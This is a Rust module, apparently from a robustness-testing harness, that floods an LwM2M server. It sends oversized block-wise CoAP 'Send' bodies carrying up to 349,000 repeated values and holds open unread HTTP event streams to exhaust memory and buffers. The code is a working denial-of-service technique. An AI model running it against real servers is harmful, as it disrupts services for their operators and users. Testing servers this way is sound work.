//! Attacks by large bodies, and event streams that have to tell of them.

use crate::flood::{Message, code_of};
use crate::http::Connection;
use crate::server::Target;
use crate::{Attack, Outcome, Sent};
use lwm2m_coap::{Code, MessageView};
use std::net::{Ipv4Addr, SocketAddr, UdpSocket};
use std::thread;
use std::time::Duration;

/// Sends bodies in blocks.
pub(crate) struct Uploader {
    socket: UdpSocket,
    next_message: u16,
}

/// How a body was answered.
pub(crate) struct Answer {
    pub(crate) code: Code,
    /// The id of a registration.
    pub(crate) location: Option<String>,
}

impl Uploader {
    pub(crate) fn new(server: SocketAddr) -> Outcome<Self> {
        let socket = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0))?;
        socket.connect(server)?;
        socket.set_read_timeout(Some(Duration::from_secs(2)))?;
        Ok(Self { socket, next_message: 0 })
    }

    /// Sends a body with these options, until it has arrived or a block is refused.
    pub(crate) fn upload(
        &mut self,
        options: impl Fn(Message) -> Message,
        body: &[u8],
        sent: &mut Sent,
    ) -> Outcome<Answer> {
        let blocks: Vec<_> = body.chunks(1024).collect();
        for (number, block) in (0..).zip(&blocks) {
            let more = number as usize + 1 < blocks.len();
            self.next_message = self.next_message.wrapping_add(1);
            let message = options(Message::new(self.next_message, Code::POST));
            let message = message.block(number, more).payload(block);
            let mut buffer = [0; 2048];
            self.socket.send(&message)?;
            sent.add(message.len());
            let length = self.socket.recv(&mut buffer)?;
            let answer = buffer.get(..length).unwrap_or_default();
            let code = code_of(answer).ok_or("no CoAP")?;
            if !more || code != Code::CONTINUE {
                let options = MessageView::parse(answer)?.to_options();
                let location = options.location_path().nth(1).map(<[u8]>::to_vec);
                return Ok(Answer { code, location: location.map(String::from_utf8).transpose()? });
            }
        }
        Err("an empty body".into())
    }

    /// The socket, for messages without a pause.
    pub(crate) fn into_socket(self) -> Outcome<UdpSocket> {
        self.socket.set_nonblocking(true)?;
        Ok(self.socket)
    }
}

/// Opens event streams: one that is never read, which it returns, and others that are.
pub(crate) fn streams(target: &Target, count: usize) -> Outcome<Connection> {
    let open = || -> Outcome<Connection> {
        let mut stream = Connection::open(target.at.http)?;
        stream.send("GET", "/api/event")?;
        stream.head()?;
        Ok(stream)
    };
    for _ in 1..count {
        let mut stream = open()?;
        thread::spawn(move || {
            let _ = crate::step_back();
            while stream.chunk().is_ok_and(|length| length > 0) {}
        });
    }
    open()
}

/// The same Send again and again.
struct Sends {
    uploader: Uploader,
    body: Vec<u8>,
    last: Option<Code>,
    count: u32,
    _unread: Connection,
}

impl Attack for Sends {
    fn step(&mut self, sent: &mut Sent) -> Outcome<()> {
        let options = |message: Message| message.path("dp").format(112);
        self.last = Some(self.uploader.upload(options, &self.body, sent)?.code);
        self.count += 1;
        Ok(())
    }

    fn outcome(&mut self) -> Outcome<String> {
        let code = self.last.map(|code| code.to_string()).unwrap_or_default();
        Ok(format!("{} Sends, answered {code}", self.count))
    }
}

/// One full record, and so many of three bytes that repeat its name.
fn sends(target: &Target, values: u32) -> Outcome<Box<dyn Attack>> {
    let mut uploader = Uploader::new(target.at.coap)?;
    let options = |message: Message| {
        message.path("rd").query("ep=sender").query("lt=86400").query("lwm2m=1.1").format(40)
    };
    let answer = uploader.upload(options, b"</1/0>,</3303/0>", &mut Sent::default())?;
    if answer.code != Code::CREATED {
        return Err(format!("the sender was answered {}", answer.code).into());
    }
    let mut body = vec![0x9a];
    body.extend((values + 1).to_be_bytes());
    body.extend([0xa2, 0x21, 0x6c]);
    body.extend(b"/3303/0/5700");
    body.extend([0x02, 0x01]);
    body.extend([0xa1, 0x02, 0x01].repeat(values as usize));
    let _unread = streams(target, 21)?;
    Ok(Box::new(Sends { uploader, body, last: None, count: 0, _unread }))
}

pub(crate) fn too_many_values(target: &Target) -> Outcome<Box<dyn Attack>> {
    sends(target, 349_000)
}

pub(crate) fn most_values(target: &Target) -> Outcome<Box<dyn Attack>> {
    sends(target, 9_990)
}
